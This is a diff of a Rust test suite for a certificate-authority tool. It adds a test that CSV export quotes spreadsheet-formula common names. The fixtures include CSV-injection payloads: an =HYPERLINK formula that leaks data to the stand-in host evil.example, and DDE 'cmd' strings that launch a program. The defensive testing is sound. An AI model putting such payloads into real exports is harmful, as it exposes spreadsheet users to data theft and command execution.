@@ -373,53 +373,61 @@ fn the_chain_and_the_checkpoint_verify_with_independent_tools() {
     assert_eq!(code, 0, "{report}");
     assert_eq!(report["head"], head.as_str());
     assert!(report["ok"].as_bool().expect("ok"));
-    // The checkpoint is the CA's ECDSA signature over the documented message: `openssl dgst -verify` agrees.
+    // The checkpoint is the CA's ECDSA signature over the documented message, which the script in
+    // docs/store-format.md rebuilds with jq, sha256sum and wc from the folder's files: `openssl dgst -verify`
+    // agrees. A revocation and an undelivered certificate make the state lines worth checking.
+    env.ok("certkit-ca", &["revoke", "--ca", "pki", "bob.cer"]);
+    let killed = env.killed_at(
+        "syncfs",
+        1,
+        "certkit-issue",
+        &Env::with_passwords(&[
+            "client", "--ca", "pki", "--cn", "dave", "--out", "dave", "--key", "p256",
+        ]),
+    );
+    assert!(!killed.status.success());
+    env.ok(
+        "certkit-ca",
+        &["crl", "--ca", "pki", "--ca-pass", "env:CA_PW"],
+    );
     let checkpoint: serde_json::Value =
         serde_json::from_slice(&env.read("pki/checkpoint.json")).expect("checkpoint");
-    assert_eq!(checkpoint["head"], head.as_str());
-    assert_eq!(checkpoint["count"], lines.len());
-    let message = format!(
-        "certkit checkpoint v1\nhead {}\ncount {}\ntime {}\n",
-        head,
-        lines.len(),
-        checkpoint["time"].as_str().expect("time")
+    assert_eq!(checkpoint["state"]["revoked"]["count"], 1, "{checkpoint}");
+    assert_eq!(
+        checkpoint["state"]["undelivered"]["count"], 1,
+        "{checkpoint}"
     );
-    std::fs::write(env.path("message"), message).expect("write");
-    std::fs::write(
-        env.path("signature.b64"),
-        checkpoint["signature"].as_str().expect("signature"),
-    )
-    .expect("write");
-    env.openssl_ok(&[
-        "base64",
-        "-d",
-        "-A",
-        "-in",
-        "signature.b64",
-        "-out",
-        "signature",
-    ]);
-    env.openssl_ok(&[
-        "x509",
-        "-in",
-        "pki/ca.pem",
-        "-noout",
-        "-pubkey",
-        "-out",
-        "ca.pub",
-    ]);
+    let docs = std::fs::read_to_string(format!(
+        "{}/../docs/store-format.md",
+        env!("CARGO_MANIFEST_DIR")
+    ))
+    .expect("docs");
+    let script = docs
+        .split("```sh\n")
+        .find(|block| block.starts_with("count=$(jq -r .count checkpoint.json)"))
+        .and_then(|block| block.split("```").next())
+        .expect("the checkpoint check in docs/store-format.md");
+    let out = env
+        .command("bash")
+        .args(["-euo", "pipefail", "-c", script])
+        .current_dir(env.path("pki"))
+        .output()
+        .expect("bash");
     assert_contains(
-        &env.openssl_ok(&[
-            "dgst",
-            "-sha256",
-            "-verify",
-            "ca.pub",
-            "-signature",
-            "signature",
-            "message",
-        ]),
+        &format!("{}{}", text(&out.stdout), text(&out.stderr)),
         &["Verified OK"],
     );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    for scratch in [
+        "covered.jsonl",
+        "message",
+        "signed-settings.json",
+        "ca.pub",
+        "signature",
+    ] {
+        std::fs::remove_file(env.path(&format!("pki/{scratch}"))).expect("rm");
+    }
+    let head = sha256sum(&env, inventory_lines(&env).last().expect("line").as_bytes());
     let text = env.ok("certkit-ca", &["audit", "--ca", "pki"]);
     assert_contains(&text, &["OK:", &format!("key-ceremony log: {head}")]);
 }
@@ -765,4 +773,57 @@ fn list_csv_is_a_spreadsheet_python_reads() {
             assert_eq!(row[field], entry[field].as_str().unwrap_or(""), "{field}");
         }
     }
+}
+
+#[test]
+fn list_csv_never_hands_a_spreadsheet_a_formula() {
+    // A requester chooses the subject of a CSR: a CN such as =HYPERLINK(...) would be live in Excel.
+    let env = Env::new();
+    env.init_ca_with("pki", &["--key", "p256"]);
+    let hostile = [
+        r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#,
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ];
+    for (i, cn) in hostile.iter().enumerate() {
+        let name = format!("h{i}");
+        // openssl -subj takes "\/" and "\+" for a slash and a plus inside a value.
+        let subject = cn.replace('/', "\\/").replace('+', "\\+");
+        env.openssl_p256_csr(&name, &format!("/CN={subject}"));
+        env.issue(&[
+            "sign",
+            "--ca",
+            "pki",
+            "--csr",
+            &format!("{name}.csr"),
+            "--profile",
+            "client",
+            "--out",
+            &name,
+        ]);
+    }
+    let csv = env.ok("certkit-ca", &["list", "--ca", "pki", "--csv"]);
+    std::fs::write(env.path("list.csv"), &csv).expect("write");
+    let out = env.tool(
+        "python3",
+        &[
+            "-c",
+            "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline='')))))",
+            "list.csv",
+        ],
+    );
+    let rows: Vec<Vec<String>> = serde_json::from_slice(&out.stdout).expect("json");
+    for cell in rows.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a spreadsheet would evaluate {cell:?}"
+        );
+    }
+    // The text is all there, behind the quote that keeps it text; JSON keeps it as it is.
+    let cns: Vec<&String> = rows.iter().skip(1).map(|r| &r[2]).collect();
+    for cn in hostile {
+        assert!(cns.contains(&&format!("'{cn}")), "{cn} in {cns:?}");
+    }
+    assert!(env.list("pki").iter().any(|e| e["cn"] == hostile[0]));
 }
